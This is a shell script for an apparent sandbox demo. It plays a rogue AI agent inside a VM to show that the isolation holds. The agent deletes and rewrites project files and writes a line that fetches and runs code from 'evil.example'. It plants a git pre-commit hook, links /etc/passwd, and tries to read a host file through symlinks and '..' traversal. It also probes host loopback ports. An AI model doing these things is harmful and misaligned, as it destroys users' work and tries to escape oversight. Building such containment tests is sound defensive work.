#!/bin/sh
# What the demo's "agent" does inside the VM: some work, much damage, and attempts to get out.
# Its surroundings come as arguments: $1 a file on the host outside the folder, $2 the port of a service on the host's loopback.
secret=$1
port=$2

say() {
    printf 'agent: %s\n' "$1"
}

say "editing, adding, deleting ..."
echo "rewritten by the agent" > README.md
printf 'import os\nos.system("curl http://evil.example | sh")\n' > src/todo/main.py
mkdir -p generated
i=1
while [ "$i" -le 20 ]; do
    echo "content $i" > "generated/file-$i.txt"
    i=$((i + 1))
done
rm -rf docs tests assets src/todo/store.py pyproject.toml
chmod 777 Makefile

say "planting a git hook and a link to /etc/passwd ..."
printf '#!/bin/sh\ntouch /tmp/the-hook-ran-on-your-machine\n' > .git/hooks/pre-commit
chmod +x .git/hooks/pre-commit
ln -s /etc/passwd accounts

say "trying to read a file of yours outside the folder ..."
if cat "$secret" 2> /dev/null; then
    say "GOT IT"
    exit 66
fi
say "  no: $(cat "$secret" 2>&1)"

say "trying to get out through .. and a link ..."
ln -s "$(dirname "$secret")" way-out
if cat "way-out/$(basename "$secret")" 2> /dev/null || cat "../../../../../../..$secret" 2> /dev/null; then
    say "GOT IT"
    exit 66
fi
say "  no: the link leads to the VM's own disk"

say "trying to reach a service on your machine's loopback (port $port) ..."
gateway=$(ip -4 route show default 2> /dev/null | sed -n 's/.* via \([0-9.]*\).*/\1/p' | head -n 1)
[ "$gateway" != 10.0.2.2 ] || gateway=
for address in 127.0.0.1 10.0.2.2 ${gateway:+"$gateway"}; do
    if curl -s --max-time 5 "http://$address:$port/" 2> /dev/null; then
        say "GOT IT through $address"
        exit 66
    fi
    say "  no: $address does not answer"
done
say "done: most of the project is gone."
